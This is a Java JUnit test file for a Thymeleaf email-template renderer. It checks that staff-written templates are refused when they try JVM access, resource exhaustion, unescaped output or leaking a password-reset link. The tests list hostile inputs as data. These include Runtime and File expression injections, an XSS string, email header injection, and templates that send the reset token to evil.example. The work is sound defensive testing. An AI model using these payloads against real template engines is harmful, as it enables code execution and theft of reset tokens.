package io.tienda.notification.template.rendering;

import io.tienda.notification.template.domain.Rendered;
import io.tienda.notification.template.domain.Template;
import io.tienda.notification.template.domain.TemplateCatalog;
import io.tienda.notification.template.domain.TemplateNotAllowedException;
import io.tienda.notification.template.domain.TemplateSyntaxException;
import org.junit.jupiter.api.Test;
import org.thymeleaf.TemplateEngine;
import org.thymeleaf.context.Context;
import org.thymeleaf.context.ExpressionContext;
import org.thymeleaf.spring6.SpringTemplateEngine;
import org.thymeleaf.standard.expression.VariableExpression;
import org.thymeleaf.templatemode.TemplateMode;
import org.thymeleaf.templateresolver.StringTemplateResolver;

import java.time.Duration;
import java.util.HashMap;
import java.util.Locale;
import java.util.Map;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;

class ThymeleafRendererTest {

    private final ThymeleafRenderer renderer = new ThymeleafRenderer();

    @Test
    void everyShippedTemplateRendersWithItsSampleValues() {
        var defaults = new io.tienda.notification.template.persistence.ClasspathDefaultTemplatesAccess().load();
        for (String key : TemplateCatalog.keys()) {
            for (String locale : TemplateCatalog.LOCALES) {
                Template template = defaults.find(key, locale).orElseThrow();
                Rendered rendered = renderer.render(template, TemplateCatalog.sample(key));
                assertThat(rendered.subject()).as(key + "/" + locale).isNotBlank().doesNotContain("${");
                assertThat(rendered.text()).as(key + "/" + locale).isNotBlank().doesNotContain("${");
                assertThat(rendered.html()).as(key + "/" + locale).contains("<html").doesNotContain("${")
                        .doesNotContain("th:");
                if (TemplateCatalog.sample(key).containsKey("link")) {
                    assertThat(rendered.text()).contains(TemplateCatalog.sample(key).get("link"));
                }
            }
        }
    }

    @Test
    void aMissingNameFallsBackToAGreetingWithoutIt() {
        var defaults = new io.tienda.notification.template.persistence.ClasspathDefaultTemplatesAccess().load();
        Rendered es = renderer.render(defaults.find("order-delivered", "es").orElseThrow(), Map.of("order", "T-1"));
        Rendered en = renderer.render(defaults.find("order-delivered", "en").orElseThrow(), Map.of("order", "T-1"));

        assertThat(es.text()).startsWith("Hola cliente,");
        assertThat(en.text()).startsWith("Hello there,");
    }

    @Test
    void aBrokenExpressionIsASyntaxProblemNamingThePart() {
        Template broken = new Template("k", "es", "ok", "<p th:text=\"${a +}\">x</p><p>the rest of the template</p>",
                "ok", true, null);

        assertThatThrownBy(() -> renderer.render(broken, Map.of()))
                .isInstanceOf(TemplateSyntaxException.class)
                .hasMessageStartingWith("html: ")
                // what is wrong and where, not the template again (Thymeleaf names a text template by its text)
                .hasMessageContaining("${a +}").hasMessageContaining("line 1")
                .hasMessageNotContaining("the rest of the template")
                .satisfies(e -> assertThat(((TemplateSyntaxException) e).status()).isEqualTo(422));
    }

    @Test
    void staffTemplatesCannotReachTheJvm() {
        for (String expression : new String[] {"[(${T(java.lang.Runtime).getRuntime().availableProcessors()})]",
                "[(${name.getClass().forName('java.lang.Runtime')})]",
                "[(${new java.io.File('/').list().length})]"}) {
            Template evil = new Template("k", "en", "ok", "<p>ok</p>", expression, true, null);

            assertThatThrownBy(() -> renderer.render(evil, Map.of("name", "x")))
                    .as(expression).isInstanceOf(TemplateNotAllowedException.class);
        }
    }

    @Test
    void everyShippedTemplateRendersExactlyAsWithTheFullExpressionLanguage() {
        var defaults = new io.tienda.notification.template.persistence.ClasspathDefaultTemplatesAccess().load();
        TemplateEngine htmlBefore = springEngine(TemplateMode.HTML);
        TemplateEngine textBefore = springEngine(TemplateMode.TEXT);
        for (String key : TemplateCatalog.keys()) {
            Map<String, String> hostile = new HashMap<>();
            TemplateCatalog.sample(key).keySet().forEach(name -> hostile.put(name, "<b>\"Ana\" & 'co'</b> ${x} [[y]]"));
            for (Map<String, String> variables : java.util.List.of(TemplateCatalog.sample(key), Map.<String, String>of(),
                    hostile)) {
                for (String locale : TemplateCatalog.LOCALES) {
                    Template template = defaults.find(key, locale).orElseThrow();
                    Context context = new Context(Locale.forLanguageTag(locale));
                    context.setVariables(Map.copyOf(variables));

                    Rendered now = renderer.render(template, variables);

                    String what = key + "/" + locale + " " + variables;
                    assertThat(now.subject()).as(what).isEqualTo(textBefore.process(template.subject(), context)
                            .replaceAll("[\\s\\p{Cc}\\p{Zl}\\p{Zp}]+", " ").strip());
                    assertThat(now.html()).as(what).isEqualTo(htmlBefore.process(template.html(), context));
                    assertThat(now.text()).as(what).isEqualTo(textBefore.process(template.text(), context));
                }
            }
        }
    }

    @Test
    void expressionsThatCouldExhaustMemoryOrTimeAreRefusedBeforeTheyRun() {
        String[] attacks = {
                "[(${'x'.repeat(2000000000)})]",
                "[(${'x'.concat('x').concat('x').repeat(1000000000)})]",
                "[(${#strings.repeat('x', 2000000000)})]",
                "[# th:each=\"i : ${#numbers.sequence(1, 2000000000)}\"]x[/]",
                "[(${#numbers.sequence(1, 2000000000).size()})]",
                "[(${name.repeat(2000000000)})]",
                "[(${name * 2000000000})]",
                "[(${name.class.name})]",
                "[(${name[0]})]",
                "[(${name + name})]",
                "[(${name} * 100)]",
                "[(${#strings.length(name)})]",
                "[(|${name}${name}|)]",
                "[(~{::p})]",
                "[(@{/x(a=${name})})]",
                "[(#{greeting})]",
                "[(__${name}__)]",
                "[(${name} ? 'a' : 'b')]",
                "[(${name} == 'a')]",
                "[# th:with=\"a=${name} + ${name}\"][# th:with=\"b=${a} + ${a}\"][(${b})][/][/]",
                "[# th:insert=\"${name}\"/]",
                "[# th:utext=\"${name.repeat(2000000000)}\"/]",
        };
        for (String attack : attacks) {
            Template text = new Template("k", "en", "ok", "<p>ok</p>", attack, true, null);
            Template subject = new Template("k", "en", attack, "<p>ok</p>", "ok", true, null);

            for (Template template : new Template[] {text, subject}) {
                assertTimeoutPreemptively(Duration.ofSeconds(5), () -> assertThatThrownBy(
                        () -> renderer.render(template, Map.of("name", "x")))
                        .as(attack).isInstanceOf(TemplateNotAllowedException.class)
                        .satisfies(e -> assertThat(((TemplateNotAllowedException) e).status()).isEqualTo(400))
                        .satisfies(e -> assertThat(((TemplateNotAllowedException) e).properties())
                                .containsEntry("part", template == text ? "text" : "subject")
                                .containsKey("expression")));
            }
        }
    }

    @Test
    void htmlAttributesAndExpressionsOutsideTheAllowedOnesAreRefused() {
        String[] attacks = {
                "<p th:text=\"${'x'.repeat(2000000000)}\">x</p>",
                "<p data-th-text=\"${name.repeat(2000000000)}\">x</p>",
                "<p TH:TEXT=\"${name.concat(name)}\">x</p>",
                "<p>[[${#strings.repeat(name, 2000000000)}]]</p>",
                "<title>[[${name.repeat(5)}]]</title>",
                "<p th:each=\"i : ${#numbers.sequence(1, 2000000000)}\">x</p>",
                "<p data-th-each=\"i : ${name}\">x</p>",
                "<div th:with=\"a=${name} + ${name}\"><p th:text=\"${a}\">x</p></div>",
                "<div th:insert=\"~{'<p>x</p>'}\"></div>",
                "<div th:replace=\"${name}\"></div>",
                "<div th:attr=\"title=${name}\"></div>",
                "<div th:inline=\"javascript\">x</div>",
                "<a th:href=\"@{${name}(a=${name.repeat(9)})}\">x</a>",
                "<th:block th:each=\"i : ${name}\">x</th:block>",
                "<!-- [[${name.repeat(9)}]] -->",
        };
        for (String attack : attacks) {
            Template html = new Template("k", "en", "ok", attack, "ok", true, null);

            assertTimeoutPreemptively(Duration.ofSeconds(5), () -> assertThatThrownBy(
                    () -> renderer.render(html, Map.of("name", "x")))
                    .as(attack).isInstanceOf(TemplateNotAllowedException.class)
                    .hasMessageStartingWith("html: ")
                    .satisfies(e -> assertThat(((TemplateNotAllowedException) e).properties())
                            .containsEntry("part", "html").containsKey("expression")));
        }
    }

    @Test
    void theRefusalNamesTheOffendingExpression() {
        Template evil = new Template("k", "en", "ok", "<p>ok</p>", "Hi [(${'x'.repeat(2000000000)})]", true, null);

        assertThatThrownBy(() -> renderer.render(evil, Map.of()))
                .isInstanceOf(TemplateNotAllowedException.class)
                .satisfies(e -> assertThat(((TemplateNotAllowedException) e).properties())
                        .containsEntry("expression", "${'x'.repeat(2000000000)}"))
                .hasMessageContaining("text: ").hasMessageContaining("${'x'.repeat(2000000000)}");
    }

    @Test
    void variablesLiteralsDefaultsAndConcatenationAreAllowed() {
        Template template = new Template("k", "en",
                "[(${order})] [(${missing} ?: 'none')] [( 'for ' + ${name} )]",
                "<p th:text=\"${name} ?: 'there'\">x</p><p data-th-text=\"'#' + ${order}\">x</p>"
                        + "<a th:href=\"${link}\">go</a>"
                        + "<i th:if=\"${note}\">[[${note}]]</i><i th:unless=\"${note}\">no note</i>"
                        + "<th:block th:text=\"'fallback' ?: ${x}\"/><span>[[${missing}]]|[[${name}]]</span>",
                "[# th:if=\"${name}\"]Hi [(${name})][/]\n[# th:text=\"${order}\"/] [# th:unless=\"${note}\"]-[/]",
                true, null);

        Rendered rendered = renderer.render(template, Map.of("order", "T-1", "name", "<Ana>", "link",
                "http://x/y?a=1&b=2"));

        assertThat(rendered.subject()).isEqualTo("T-1 none for <Ana>");
        assertThat(rendered.html()).isEqualTo("<p>&lt;Ana&gt;</p><p>#T-1</p><a href=\"http://x/y?a=1&amp;b=2\">go</a>"
                + "<i>no note</i>fallback<span>|&lt;Ana&gt;</span>");
        assertThat(rendered.text()).isEqualTo("Hi <Ana>\nT-1 -");
    }

    @Test
    void theSubjectIsOneLineWhateverItsVariablesHold() {
        Template template = new Template("k", "en", "Re: [(${ticketSubject})] ", "<p>x</p>", "x", true, null);

        Rendered rendered = renderer.render(template, Map.of("ticketSubject",
                "\r\nOrder\r\nBcc: someone@example.com\n\tX-Extra: 1\u0000\u0085\u2028\u2029end\u007f"));

        assertThat(rendered.subject()).isEqualTo("Re: Order Bcc: someone@example.com X-Extra: 1 end");
    }

    @Test
    void theHtmlPartOutputsNothingUnescaped() {
        // Variables hold what customers typed (names, ticket replies, notes): th:utext or [(...)] in the HTML part
        // would put their markup into the mail as markup.
        String[][] attacks = {
                {"<b th:utext=\"${name}\">x</b>", "th:utext=\"${name}\""},
                {"<b data-th-utext=\"${name}\">x</b>", "data-th-utext=\"${name}\""},
                {"<b TH:UTEXT=\"'a' + ${name}\">x</b>", "TH:UTEXT=\"'a' + ${name}\""},
                {"<th:block th:utext=\"${name}\"/>", "[(${name})]"},
                {"<p>Hi [(${name})]!</p>", "[(${name})]"},
                {"<p>Hi [( 'dear ' + ${name} )]</p>", "[( 'dear ' + ${name} )]"},
                {"<title>[(${name})]</title><p>x</p>", "[(${name})]"},
                {"<p>[[${name}]] and [(${name} ?: 'x')]</p>", "[(${name} ?: 'x')]"},
                {"<!-- [(${name})] -->", "[(${name})]"},
                {"<p th:if=\"${name}\"><span>[(${name})]</span></p>", "[(${name})]"},
        };
        for (String[] attack : attacks) {
            Template html = new Template("k", "en", "ok", attack[0], "ok", true, null);

            assertThatThrownBy(() -> renderer.render(html, Map.of("name", "<img src=x onerror=alert(1)>")))
                    .as(attack[0]).isInstanceOf(TemplateNotAllowedException.class)
                    .hasMessageStartingWith("html: unescaped output")
                    .satisfies(e -> assertThat(((TemplateNotAllowedException) e).status()).isEqualTo(400))
                    .satisfies(e -> assertThat(((TemplateNotAllowedException) e).properties())
                            .containsEntry("part", "html").containsEntry("expression", attack[1]));
        }

        // [( alone is text; an attribute's value is never inlined; the text parts are not HTML and keep both.
        Template fine = new Template("k", "en", "[(${name})]",
                "<p title=\"[(x)]\">a [( b ) c</p><p>[[${name}]]</p>",
                "[(${name})] [# th:utext=\"${name}\"/]", true, null);
        Rendered rendered = renderer.render(fine, Map.of("name", "<i>Ana</i>"));
        assertThat(rendered.html()).isEqualTo("<p title=\"[(x)]\">a [( b ) c</p><p>&lt;i&gt;Ana&lt;/i&gt;</p>");
        assertThat(rendered.subject()).isEqualTo("<i>Ana</i>");
        assertThat(rendered.text()).isEqualTo("<i>Ana</i> <i>Ana</i>");
    }

    @Test
    void aSecretLinkStandsOnlyAsAWholeLinkOrAWholeText() {
        // password-reset's link carries a single-use token: joined to other text, in another attribute, a form
        // field, a style, a comment or the subject it could reach someone other than its reader.
        String[][] html = {
                {"<a th:href=\"'https://evil.example/r?u=' + ${link}\">x</a>", "th:href=\"'https://evil.example/r?u=' + ${link}\""},
                {"<a th:href=\"${link} + '&x=1'\">x</a>", "th:href=\"${link} + '&x=1'\""},
                {"<a th:href=\"${missing} ?: ${link}\">x</a>", "th:href=\"${missing} ?: ${link}\""},
                {"<a data-th-href=\"'//evil.example/' + ${ link }\">x</a>", "data-th-href=\"'//evil.example/' + ${ link }\""},
                {"<link rel=\"stylesheet\" th:href=\"${link}\">", "th:href=\"${link}\""},
                {"<a th:href=\"${link}\" ping=\"https://evil.example/p\">x</a>", "th:href=\"${link}\""},
                {"<p th:if=\"${link}\">x</p>", "th:if=\"${link}\""},
                {"<p th:text=\"'Link: ' + ${link}\">x</p>", "th:text=\"'Link: ' + ${link}\""},
                {"<p>[[ 'u=' + ${link} ]]</p>", "[[ 'u=' + ${link} ]]"},
                {"<p>[[${link} ?: 'x']]</p>", "[[${link} ?: 'x']]"},
                {"<form action=\"https://evil.example\"><textarea name=\"t\">[[${link}]]</textarea></form>", "[[${link}]]"},
                {"<form><select name=\"t\"><option th:text=\"${link}\">x</option></select></form>", "th:text=\"${link}\""},
                {"<style>body { background: url('https://evil.example/?[[${link}]]'); }</style>", "[[${link}]]"},
                {"<!--[if mso]><link rel=\"stylesheet\" href=\"https://evil.example/?[[${link}]]\"><![endif]-->", "[[${link}]]"},
        };
        for (String[] attack : html) {
            assertSecretRefused(new Template("password-reset", "es", "ok", attack[0], "ok", true, null), "html",
                    attack[1]);
        }
        String[][] text = {
                {"Go: [('https://evil.example/r?u=' + ${link})]", "[('https://evil.example/r?u=' + ${link})]"},
                {"Go: [[${link} + '#']]", "[[${link} + '#']]"},
                {"[# th:if=\"${link}\"]x[/]", "th:if=\"${link}\""},
        };
        for (String[] attack : text) {
            assertSecretRefused(new Template("password-reset", "es", "ok", "<p>ok</p>", attack[0], true, null), "text",
                    attack[1]);
        }
        assertThatThrownBy(() -> renderer.render(new Template("verify-email", "en", "Your link [(${link})]",
                "<p>ok</p>", "ok", true, null), TemplateCatalog.sample("verify-email")))
                .isInstanceOf(TemplateNotAllowedException.class)
                .hasMessage("subject: the secret link may not be in the subject, which the history keeps: "
                        + "[(${link})]");

        // Where it may stand, and anywhere in a template whose link is no secret.
        Template fine = new Template("password-reset", "es", "Restablece tu contraseña",
                "<p><a th:href=\"${link}\" style=\"color:#fff\">Elegir</a> <span th:text=\" ${link} \">x</span> "
                        + "[[${link}]] <span>${link}</span></p><!-- [[${name}]] --><a href=\"https://help\">ayuda</a>",
                "Elegir: [(${link})] [[${link}]] [# th:utext=\"${link}\"/]", true, null);
        Rendered rendered = renderer.render(fine, Map.of("link", "https://t/r?token=s", "name", "Ana"));
        assertThat(rendered.html()).isEqualTo("<p><a href=\"https://t/r?token=s\" style=\"color:#fff\">Elegir</a> "
                + "<span>https://t/r?token=s</span> https://t/r?token=s <span>${link}</span></p><!-- Ana -->"
                + "<a href=\"https://help\">ayuda</a>");
        assertThat(rendered.text()).isEqualTo("Elegir: https://t/r?token=s https://t/r?token=s https://t/r?token=s");
        Template order = new Template("order-confirmed", "es", "[(${link})]",
                "<a th:href=\"${link} + '?from=mail'\">x</a>", "[('Ver: ' + ${link})]", true, null);
        assertThat(renderer.render(order, Map.of("link", "https://t/orders/1")).html())
                .isEqualTo("<a href=\"https://t/orders/1?from=mail\">x</a>");
    }

    private void assertSecretRefused(Template template, String part, String expression) {
        assertThatThrownBy(() -> renderer.render(template, TemplateCatalog.sample(template.key())))
                .as(part + ": " + expression).isInstanceOf(TemplateNotAllowedException.class)
                .hasMessageStartingWith(part + ": the secret link may only be the whole th:href of an <a>")
                .satisfies(e -> assertThat(((TemplateNotAllowedException) e).status()).isEqualTo(400))
                .satisfies(e -> assertThat(((TemplateNotAllowedException) e).properties())
                        .containsEntry("part", part).containsEntry("expression", expression));
    }

    @Test
    void aRenderedPartIsBoundedInSize() {
        String tenThousand = "x".repeat(10_000);
        Template big = new Template("k", "en", "ok", "<p>ok</p>", "[(${v})]".repeat(101), true, null);

        assertThatThrownBy(() -> renderer.render(big, Map.of("v", tenThousand)))
                .isInstanceOf(TemplateNotAllowedException.class)
                .hasMessageStartingWith("text: the rendered output is too long");
        Template fits = new Template("k", "en", "ok", "<p>ok</p>", "[(${v})]".repeat(99), true, null);
        assertThat(renderer.render(fits, Map.of("v", tenThousand)).text()).hasSize(990_000);
    }

    @Test
    void longExpressionsAreRefusedBeforeThymeleafsParserRecursesThroughThem() {
        // Some thousands of operands overflowed the stack of Thymeleaf's expression parser (an Error, not a
        // refusal) after seconds of work.
        for (String expression : new String[] {"'a' + ".repeat(5000) + "'a'", "(".repeat(5000) + "${a}"
                + ")".repeat(5000), "${a} ?: ".repeat(16) + "${a}", "${a} + '" + "x".repeat(1000) + "'"}) {
            Template template = new Template("k", "en", "ok", "<p>ok</p>", "[(" + expression + ")]", true, null);

            assertTimeoutPreemptively(Duration.ofSeconds(2), () -> assertThatThrownBy(
                    () -> renderer.render(template, Map.of("a", "x")))
                    .isInstanceOf(TemplateNotAllowedException.class).hasMessageContaining("at most"));
        }
        Template sixteen = new Template("k", "en", "ok", "<p>ok</p>", "[(" + "${a} + ".repeat(15) + "${a})]", true,
                null);
        assertThat(renderer.render(sixteen, Map.of("a", "x")).text()).isEqualTo("x".repeat(16));
    }

    @Test
    void deeplyNestedOrAttributeLadenHtmlIsRefusedBeforeItIsParsed() {
        // Thymeleaf's HTML parsing is quadratic in both: 30,000 nested elements took some 15 s.
        String[] shapes = {"<b>".repeat(33_000), "<div>".repeat(201) + "x" + "</div>".repeat(201),
                "<!--/*/ " + "<i>".repeat(300) + " /*/-->",
                "<b " + java.util.stream.IntStream.range(0, 9_000).mapToObj(i -> "a" + i)
                        .collect(java.util.stream.Collectors.joining(" ")) + ">x</b>"};
        for (String html : shapes) {
            Template template = new Template("k", "en", "ok", html, "ok", true, null);

            assertTimeoutPreemptively(Duration.ofSeconds(2), () -> assertThatThrownBy(
                    () -> renderer.render(template, Map.of()))
                    .isInstanceOf(TemplateNotAllowedException.class).hasMessageStartingWith("html: ")
                    .hasMessageContaining("at most"));
        }
        String deepButAllowed = "<div>".repeat(200) + "[[${a}]]" + "</div>".repeat(200) + "<br>".repeat(500)
                + "<p>x</p>".repeat(500) + "<img src=\"x\"/>".repeat(300);
        assertThat(renderer.render(new Template("k", "en", "ok", deepButAllowed, "ok", true, null), Map.of("a", "y"))
                .html()).contains("y</div>");
    }

    @Test
    void theVariableLookUpEvaluatesNothingButANameEvenIfAnExpressionGotThrough() {
        RestrictedDialect.VariablesOnly evaluator = new RestrictedDialect.VariablesOnly();
        Context variables = new Context(Locale.ENGLISH, Map.of("name", "Ana"));
        TemplateEngine engine = new TemplateEngine();
        engine.setDialect(new RestrictedDialect());
        var context = new ExpressionContext(engine.getConfiguration(), Locale.ENGLISH,
                variables.getVariableNames().stream().collect(java.util.stream.Collectors.toMap(n -> n,
                        variables::getVariable)));

        assertThat(evaluator.evaluate(context, new VariableExpression(" name "), null)).isEqualTo("Ana");
        assertThat(evaluator.evaluate(context, new VariableExpression("unknown"), null)).isNull();
        assertThatThrownBy(() -> evaluator.evaluate(context, new VariableExpression("'x'.repeat(2000000000)"), null))
                .isInstanceOf(Refused.class);
    }

    /** The engine templates were rendered with before expressions were restricted: the reference output. */
    private static TemplateEngine springEngine(TemplateMode mode) {
        StringTemplateResolver resolver = new StringTemplateResolver();
        resolver.setTemplateMode(mode);
        resolver.setCacheable(false);
        SpringTemplateEngine engine = new SpringTemplateEngine();
        engine.setTemplateResolver(resolver);
        return engine;
    }
}
